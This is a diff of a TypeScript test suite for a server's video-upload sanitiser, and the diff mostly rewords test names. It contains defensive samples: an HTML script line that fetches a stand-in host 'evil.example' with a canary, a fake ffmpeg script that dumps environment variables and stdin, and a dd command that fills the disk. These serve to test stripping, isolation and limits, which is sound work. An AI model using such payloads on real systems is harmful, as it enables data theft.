@@ -87,11 +87,11 @@ describe.each(['with ffmpeg', 'without ffmpeg'])('a video, %s,', (how) => {
     });
   });
 
-  it('has a still only where the machine can make one', () => {
+  it('has a poster only where one can be made', () => {
     expect(videos.canMakeStills).toBe(canMakeStills);
   });
 
-  it.each(names)('is taken as %s, plays whole, and carries nothing but picture and sound', async (name) => {
+  it.each(names)('is accepted as %s, plays completely, and contains only picture and sound', async (name) => {
     const prepared = await videos.prepare(await receive(sample(name)), widths);
     const stored = await readFile(prepared.path);
     expect(prepared).toMatchObject({
@@ -110,14 +110,14 @@ describe.each(['with ffmpeg', 'without ffmpeg'])('a video, %s,', (how) => {
     expect(prepared.poster?.sizes.map(({ width }) => width)).toEqual(canMakeStills ? [160, 320] : undefined);
   });
 
-  it('held upright is as tall as it is shown, and still plays upright', async () => {
+  it('recorded upright reports its displayed size and still plays upright', async () => {
     const prepared = await videos.prepare(await receive(rotateUpright(sample('an MP4'))), widths);
     expect(prepared).toMatchObject({ width: 240, height: 320 });
     expect(probe(await readFile(prepared.path))).toMatch(/rotation=-?90/);
     if (canMakeStills) expect(prepared.poster).toMatchObject({ width: 240, height: 320 });
   });
 
-  it('is refused when it is no video, or one that browsers do not play', async () => {
+  it('is refused when it is not a video browsers can play', async () => {
     const refused: Record<string, Buffer> = {
       ...(await unsupportedFiles()),
       ...(await validPictures()),
@@ -149,7 +149,7 @@ describe.each(['with ffmpeg', 'without ffmpeg'])('a video, %s,', (how) => {
     await expect(videos.prepare(file, widths)).rejects.toMatchObject(refusedAs(reason));
   });
 
-  it('cut off anywhere is refused', async () => {
+  it('truncated anywhere is refused', async () => {
     for (const name of ['an MP4', 'an MP4 with its index in front', 'a WebM of VP9 and Opus']) {
       const whole = sample(name);
       for (const share of [0.01, 0.1, 0.3, 0.6, 0.9, 0.99]) {
@@ -160,7 +160,7 @@ describe.each(['with ffmpeg', 'without ffmpeg'])('a video, %s,', (how) => {
     }
   });
 
-  it('loses what else was hidden in it', async () => {
+  it('loses other hidden data', async () => {
     const html = Buffer.from(`<script>fetch('https://evil.example/${canary}')</script>`);
     const pictures = Object.values(await polyglots()).slice(1, 2);
     for (const behind of [html, Buffer.concat([Buffer.alloc(4), html]), ...pictures]) {
@@ -191,7 +191,7 @@ const referring = (mp4: Buffer) => {
   return changed;
 };
 
-it('stands with its index in front where there is ffmpeg', async () => {
+it('has its index in front where ffmpeg is available', async () => {
   const videos = createVideos({ log, pictures });
   const { path } = await videos.prepare(await receive(sample('an MP4')), widths);
   const stored = await readFile(path);
@@ -199,7 +199,7 @@ it('stands with its index in front where there is ffmpeg', async () => {
   expect(stored.indexOf('moov')).toBeLessThan(stored.indexOf('mdat'));
 });
 
-it('a clean video is left as it is', () => {
+it('that is clean stays unchanged', () => {
   for (const name of names) {
     const once = Buffer.from(cleanVideo(Buffer.from(sample(name))).file);
     expect([name, cleanVideo(Buffer.from(once)).file.equals(once)]).toEqual([name, true]);
@@ -231,7 +231,7 @@ function mutate(bytes: Buffer, roll: (below: number) => number): Buffer {
   return roll(5) === 0 ? changed.subarray(0, roll(changed.length)) : changed;
 }
 
-it('however a video is damaged, it is read or refused, and nothing else happens', () => {
+it('damaged in any way is parsed or refused without side effects', () => {
   const roll = createDice(20_261_121);
   const small = names.map((name) => sample(name));
   let read = 0;
@@ -250,7 +250,7 @@ it('however a video is damaged, it is read or refused, and nothing else happens'
   expect(read).toBeLessThan(4800);
 });
 
-it('a handful of damaged videos that are still read does no harm to what comes after them', async () => {
+it('several damaged but readable ones do not affect later ones', async () => {
   const videos = createVideos({ log, pictures });
   const roll = createDice(7);
   for (let round = 0; round < 24; round += 1) {
@@ -262,7 +262,7 @@ it('a handful of damaged videos that are still read does no harm to what comes a
   }
 });
 
-describe('the program that copies', () => {
+describe('the copying process', () => {
   const script = async (lines: string) => {
     const path = join(await mkdtemp(join(folder, 'program-')), 'ffmpeg');
     await writeFile(path, `#!/bin/sh\n${lines}\n`);
@@ -270,7 +270,7 @@ describe('the program that copies', () => {
     return path;
   };
 
-  it('does not have the server’s environment, nor anything to read from', async () => {
+  it('does not inherit the server’s environment or input', async () => {
     const told = join(folder, 'told');
     const program = await script(`env > ${told}; cat >> ${told}; exit 1`);
     process.env.RADIANT_SECRET = canary;
@@ -286,7 +286,7 @@ describe('the program that copies', () => {
     expect(environment).not.toContain('DATABASE');
   });
 
-  it('is ended with the server', async () => {
+  it('ends with the server', async () => {
     const program = await script('exec sleep 600');
     const videos = createVideos({ log, pictures, program });
     const work = videos.prepare(await receive(sample('an MP4')), widths);
@@ -294,7 +294,7 @@ describe('the program that copies', () => {
     await expect(work).rejects.toMatchObject(refusal);
   });
 
-  it('writes no file without end', async () => {
+  it('has a limited output size', async () => {
     // Its last argument is where the copy goes.
     const program = await script(
       'exec dd if=/dev/zero bs=65536 "of=$(printf "%s\\n" "$@" | tail -1 | cut -c6-)"',
@@ -305,7 +305,7 @@ describe('the program that copies', () => {
     expect((await stat(`${file.path}.mp4`)).size).toBeLessThanOrEqual(64 * 1024 * 1024);
   });
 
-  it('tells the eleventh in line to come back', async () => {
+  it('tells the eleventh in the queue to retry', async () => {
     const program = await script('sleep 0.2; exit 1');
     const videos = createVideos({ log, pictures, program });
     const files = await Promise.all(Array.from({ length: 11 }, () => receive(sample('an MP4'))));
